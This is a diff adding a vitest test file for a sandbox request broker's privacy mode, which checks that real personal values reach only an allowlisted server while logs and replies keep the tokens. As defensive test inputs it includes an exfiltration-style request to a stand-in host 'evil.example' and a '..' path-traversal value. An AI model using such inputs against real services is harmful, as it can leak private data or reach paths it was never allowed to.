@@ -1,0 +1,76 @@
+// Privacy mode at the broker (issue 26): real values go only into the bytes sent to an allowed, approved server; the
+// log, the reply and every denial keep the request as the script wrote it (tokens).
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { PrivacyVault, restoreRequest } from '../../core/privacy';
+import type { BrokerRequest, SandboxConfig } from '../contract';
+import { createBroker } from './broker';
+
+const hits: Array<{ url: string; body: string }> = [];
+let server: http.Server;
+let base = '';
+
+beforeAll(async () => {
+  server = http.createServer((req, res) => {
+    let body = '';
+    req.on('data', (c: Buffer) => (body += c.toString('utf8')));
+    req.on('end', () => {
+      hits.push({ url: req.url ?? '', body });
+      res.writeHead(200, { 'Content-Type': 'application/json' });
+      res.end('{}');
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+});
+afterAll(() => server.close());
+beforeEach(() => (hits.length = 0));
+
+function setup(config: Partial<SandboxConfig> = {}) {
+  const vault = new PrivacyVault(['name']);
+  vault.tokenize('{"name": "Zelda Quarrington", "phone": "+1 415 555 0142"}');
+  const restored: BrokerRequest[] = [];
+  const restore = (req: BrokerRequest): BrokerRequest => {
+    const out = restoreRequest(vault, req);
+    restored.push(out);
+    return out;
+  };
+  const broker = createBroker({ allowlist: [{ origin: base, pathPrefix: '/api' }], baseUrl: `${base}/api`, ...config }, { restore });
+  return { broker, restored };
+}
+
+describe('privacy values at the broker', () => {
+  it('sends real values to the allowed server; the reply URL and the log keep the tokens', async () => {
+    const { broker } = setup();
+    const url = `${base}/api/orders?name=%5BNAME_1%5D&phone=%5BPHONE_1%5D`;
+    const { reply, log } = await broker.request({ method: 'GET', url, headers: {} });
+    expect(hits[0]?.url).toBe('/api/orders?name=Zelda%20Quarrington&phone=%2B1%20415%20555%200142');
+    expect(reply.ok && reply.url).toBe(url);
+    expect(log.url).toBe(url);
+    expect(JSON.stringify({ reply: { ...reply, body: undefined }, log })).not.toMatch(/Zelda|415/);
+  });
+
+  it('never gives real values to a request outside the allowlist or refused by the policy', async () => {
+    const { broker, restored } = setup({ requests: { policy: 'read-only' } });
+    const outside = await broker.request({ method: 'GET', url: 'https://evil.example/x?name=[NAME_1]', headers: {} });
+    const write = await broker.request({ method: 'POST', url: `${base}/api/notes`, headers: { 'Content-Type': 'application/json' }, body: '{"to": "[NAME_1]"}' });
+    expect(outside.reply.ok).toBe(false);
+    expect(write.reply.ok).toBe(false);
+    expect(restored).toEqual([]);
+    expect(hits).toEqual([]);
+    expect(JSON.stringify([outside, write])).not.toMatch(/Zelda|415/);
+  });
+
+  it('denies a request whose restored URL leaves the allowed path, without naming the value', async () => {
+    const vault = new PrivacyVault(['name']);
+    vault.tokenize('{"name": ".."}');
+    const broker = createBroker({ allowlist: [{ origin: base, pathPrefix: '/api' }], baseUrl: `${base}/api` }, {
+      restore: (req) => restoreRequest(vault, req),
+    });
+    const { reply, log } = await broker.request({ method: 'GET', url: `${base}/api/[NAME_1]/[NAME_1]/secret`, headers: {} });
+    expect(reply).toMatchObject({ ok: false, kind: 'denied' });
+    expect(log.allowed).toBe(false);
+    expect(hits).toEqual([]);
+  });
+});
